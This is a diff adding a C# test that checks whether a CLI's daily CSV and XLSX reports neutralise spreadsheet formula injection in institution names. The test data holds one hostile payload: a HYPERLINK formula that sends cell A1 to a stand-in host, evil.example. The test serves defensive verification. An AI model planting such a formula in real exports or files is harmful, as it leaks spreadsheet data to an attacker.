@@ -126,6 +126,27 @@ public sealed class CliTests : CliTestBase
         Assert.Equal("210102", saved.AdminDivision);
     }
 
+    [Fact]
+    public async Task ReportDaily_InstitutionNameThatIsAFormula_IsTextInCsvAndXlsx()
+    {
+        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")";
+        Assert.Equal(0, (await VgwAsync("institution", "add", "--code", "H21010200999", "--name", Formula, "--level", "2", "--type", "hospital")).Exit);
+        Assert.Equal(0, (await VgwAsync("institution", "add", "--code", "H21010200998", "--name", "+86 024 12345678", "--level", "1", "--type", "hospital")).Exit);
+
+        var csv = await VgwAsync("report", "daily", "--date", "2026-11-22", "--format", "csv");
+        Assert.True(csv.Exit == 0, csv.Err);
+        var lines = csv.Out.TrimStart('\uFEFF').Split("\r\n");
+        Assert.StartsWith("2026-11-22,H21010200998,'+86 024 12345678,hospital,1,210102,0,0,0,0.0000,", lines[1], StringComparison.Ordinal);
+        Assert.StartsWith("2026-11-22,H21010200999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"查看\"\")\",hospital,2,", lines[2], StringComparison.Ordinal);
+
+        var file = Path.Combine(Directory, "report.xlsx");
+        var xlsx = await VgwAsync("report", "daily", "--date", "2026-11-22", "--format", "xlsx", "--out", file);
+        Assert.True(xlsx.Exit == 0, xlsx.Err);
+        Assert.Equal((Formula, false), Admin.XlsxSheet.Read(await File.ReadAllBytesAsync(file))[2][2]);
+        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(file, false);
+        Assert.Empty(document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.CellFormula>());
+    }
+
     [Theory]
     [InlineData("H2101020099", "hospital")]
     [InlineData("P21010200999", "hospital")]
